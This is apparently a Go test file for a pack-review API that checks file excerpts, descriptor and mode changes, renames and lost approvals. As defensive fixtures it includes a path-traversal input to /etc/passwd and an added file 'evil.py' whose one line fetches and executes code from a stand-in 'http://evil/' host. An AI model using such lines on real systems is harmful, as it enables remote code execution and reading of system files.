package main

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"github.com/rumi-ai/rumi/libs/fault"
)

// excerpt fetches a part of a file; query is what else is asked.
func (w *world) excerpt(id, path, query string) (map[string]any, error) {
	return w.call("GET", "/api/packs/"+id+"/review/file?path="+url.QueryEscape(path)+query, nil)
}

// The text of any file of both trees can be fetched, part by part, and says which tree it belongs to.
func TestFilesOfAReviewCanBeFetched(t *testing.T) {
	w := start(t)
	dir := w.pack("demo")
	approved, err := w.call("POST", "/api/packs/demo/approve", nil)
	w.check(err)
	w.write(filepath.Join(dir, "backend/main.py"), "print('さようなら')\n")
	w.write(filepath.Join(dir, "latin.txt"), "caf\xe9")
	w.write(filepath.Join(dir, "nul.bin"), "\x00\x01")
	w.write(filepath.Join(dir, "large.py"), strings.Repeat("x = 1\n", 300_000))
	now, err := w.call("GET", "/api/packs/demo/review", nil)
	w.check(err)
	bound := "&digest=" + url.QueryEscape(now["digest"].(string))

	for _, c := range []struct {
		path, query                      string
		tree, content, encoding, data    string
		offset, length, next, digestFrom any
	}{
		{"backend/main.py", bound, "current", "text", "utf-8", "print('さようなら')\n", 0., 25., nil, now["digest"]},
		{"backend/main.py", "&tree=approved", "approved", "text", "utf-8", "print('hello')\n", 0., 15., nil, approved["digest"]},
		{"backend/main.py", "&offset=7&limit=5", "current", "text", "utf-8", "さ", 7., 3., 10., now["digest"]}, // the second is cut
		{"backend/main.py", "&offset=8&limit=2", "current", "text", "base64", base64.StdEncoding.EncodeToString([]byte("さ")[1:]), 8., 2., 10., now["digest"]},
		{"backend/main.py", "&offset=25", "current", "text", "utf-8", "", 25., 0., nil, now["digest"]},
		{"latin.txt", "", "current", "undecodable", "base64", base64.StdEncoding.EncodeToString([]byte("caf\xe9")), 0., 4., nil, now["digest"]},
		{"nul.bin", "", "current", "binary", "base64", "AAE=", 0., 2., nil, now["digest"]},
		{"large.py", "&offset=6&limit=6", "current", "text", "utf-8", "x = 1\n", 6., 6., 12., now["digest"]},
	} {
		got, err := w.excerpt("demo", c.path, c.query)
		w.check(err)
		want := map[string]any{"tree": c.tree, "content": c.content, "encoding": c.encoding, "data": c.data, "offset": c.offset, "length": c.length, "next_offset": c.next, "digest": c.digestFrom}
		for field, value := range want {
			if got[field] != value {
				t.Errorf("%s%s: %s is %v, want %v", c.path, c.query, field, got[field], value)
			}
		}
	}
	for _, c := range []struct {
		path, query string
		kind        fault.Kind
		code        string
	}{
		{"nobody.py", "", fault.KindNotFound, "file_not_found"},
		{"../../../etc/passwd", "", fault.KindNotFound, "file_not_found"},
		{"latin.txt", "&tree=approved", fault.KindNotFound, "file_not_found"},
		{"backend", "", fault.KindInvalid, "not_a_file"},
		{"", "", fault.KindInvalid, "missing_path"},
		{"latin.txt", "&tree=other", fault.KindInvalid, "invalid_field"},
		{"latin.txt", "&offset=-1", fault.KindInvalid, "invalid_field"},
		{"latin.txt", "&offset=5", fault.KindInvalid, "invalid_field"},
		{"latin.txt", "&limit=1048577", fault.KindInvalid, "invalid_field"},
		{"latin.txt", "&digest=x", fault.KindInvalid, ""},
		{"backend/main.py", "&tree=approved" + bound, fault.KindConflict, "digest_mismatch"},
	} {
		_, err := w.excerpt("demo", c.path, c.query)
		if f := fault.Of(err); err == nil || f.Kind != c.kind || c.code != "" && f.Code != c.code {
			t.Errorf("%s%s: %v, want %v %s", c.path, c.query, err, c.kind, c.code)
		}
	}

	w.write(filepath.Join(dir, "backend/other.py"), "changed\n")
	_, err = w.excerpt("demo", "backend/main.py", bound)
	f := fault.Of(err)
	var data struct {
		Digest string `json:"digest"`
	}
	if f.Kind != fault.KindConflict || f.Code != "digest_mismatch" || json.Unmarshal(f.Data.(jsontext.Value), &data) != nil || data.Digest == now["digest"] {
		t.Errorf("a file of a pack that changed: %v with %+v, want a conflict with the new digest", err, data)
	}
	if _, err := w.excerpt("nobody", "x", ""); !fault.Is(err, fault.KindNotFound) {
		t.Errorf("a file of an unknown pack: %v; want not found", err)
	}
	w.pack("fresh")
	if _, err := w.excerpt("fresh", "backend/main.py", "&tree=approved"); fault.Of(err).Code != "never_approved" {
		t.Errorf("the approved tree of a pack that was never approved: %v; want the code never_approved", err)
	}
}

// Modes are folded, renames are recognised, and every member of the descriptor that changed is a line of its own.
func TestReviewOfAnUpdate(t *testing.T) {
	w := start(t)
	dir := w.pack("demo")
	for i := range 300 {
		w.write(filepath.Join(dir, fmt.Sprintf("mods/mod%03d.py", i)), fmt.Sprint("x = ", i, "\n"))
	}
	_, err := w.call("POST", "/api/packs/demo/approve", nil)
	w.check(err)
	w.check(filepath.WalkDir(filepath.Join(dir, "mods"), func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		return os.Chmod(path, 0o664)
	}))
	w.check(os.Rename(filepath.Join(dir, "mods/mod007.py"), filepath.Join(dir, "mods/renamed.py")))
	w.write(filepath.Join(dir, "mods/evil.py"), "exec(u.urlopen('http://evil/').read())\n")
	w.write(filepath.Join(dir, "backend/main.py"), "print('bye')\n")
	w.write(filepath.Join(dir, "ecosystem.json"), `{"pack_id":"demo","pack_identity":"github:other/demo","version":"1.3","required_secrets":["K","L"],
		"entrypoint":["python3","-c","import os"],"restart":"always","resources":{"memory_mb":512},"connectivity":{"provides":["x"]},"required_network":{"allowed_ports":[443]}}`)
	got, err := w.call("GET", "/api/packs/demo/review", nil)
	w.check(err)

	var fields []string
	for _, f := range got["descriptor_changes"].([]any) {
		f := f.(map[string]any)
		fields = append(fields, fmt.Sprintf("%v: %v → %v", f["field"], f["before"], f["after"]))
	}
	want := []string{
		"entrypoint: <nil> → [python3 -c import os]", "pack_identity: github:a/demo → github:other/demo", "connectivity.provides: <nil> → [x]",
		"required_network.allowed_ports: <nil> → [443]", "required_secrets: [K] → [K L]", "resources.memory_mb: <nil> → 512", "restart: <nil> → always", "version: 1.2 → 1.3",
	}
	if !slices.Equal(fields, want) {
		t.Errorf("descriptor changes\n%s\nwant\n%s", strings.Join(fields, "\n"), strings.Join(want, "\n"))
	}
	warnings := got["warnings"].([]any)
	if kind := warnings[0].(map[string]any)["kind"]; kind != "entrypoint" || got["warning_counts"].(map[string]any)["entrypoint"] != 1. {
		t.Errorf("first warning %v, want that of the entrypoint", warnings[0])
	}
	if changed := got["changed"].([]any); len(changed) != 2 {
		t.Errorf("%d changed, want ecosystem.json and backend/main.py: %v", len(changed), changed)
	}
	modes := got["mode_changes"].([]any)
	if len(modes) != 1 || modes[0].(map[string]any)["count"] != 299. {
		t.Errorf("mode changes %v, want one of 299 files", modes)
	}
	renamed := got["renamed"].([]any)
	if len(renamed) != 1 || renamed[0].(map[string]any)["from"] != "mods/mod007.py" || renamed[0].(map[string]any)["to"] != "mods/renamed.py" || len(got["removed"].([]any)) != 0 {
		t.Errorf("renamed %v, removed %v; want mod007.py renamed and nothing removed", renamed, got["removed"])
	}
	added := got["added"].([]any)
	if len(added) != 1 || !strings.Contains(added[0].(map[string]any)["diff"].(string), "+exec(u.urlopen") {
		t.Errorf("added %v, want the text of evil.py", added)
	}
	if files := got["files"].([]any); len(files) != 310 {
		t.Errorf("%d files listed, want all 310 files and folders", len(files))
	}
}

// What was approved may be lost: a review says so, and to approve again brings it back.
func TestReviewWithoutWhatWasApproved(t *testing.T) {
	w := start(t)
	w.pack("demo")
	approved, err := w.call("POST", "/api/packs/demo/approve", nil)
	w.check(err)
	digest := approved["digest"].(string)
	manifest := filepath.Join(w.UserData(), "approved/manifests", digest[len("sha256:"):]+".json")
	w.check(os.Remove(manifest))
	got, err := w.call("GET", "/api/packs/demo/review", nil)
	w.check(err)
	if got["approved_lost"] != true || got["approved_digest"] != digest || !strings.Contains(got["notes"].([]any)[0].(string), "approve the pack again") || len(got["added"].([]any)) == 0 {
		t.Errorf("review %v, want it to say that what was approved is lost", got)
	}
	_, err = w.excerpt("demo", "backend/main.py", "&tree=approved")
	if err == nil || !strings.HasPrefix(fault.Of(err).Message, "Tree not found: "+digest) || !strings.Contains(fault.Of(err).Message, "Approve the pack again") {
		t.Errorf("a file of the lost tree: %v, want what mends it", err)
	}
	_, err = w.call("POST", "/api/packs/demo/approve", map[string]any{"digest": got["digest"]})
	w.check(err)
	if got, err = w.call("GET", "/api/packs/demo/review", nil); err != nil || got["approved_lost"] != false {
		t.Errorf("after another approval: approved_lost is %v, %v; want false", got["approved_lost"], err)
	}
}
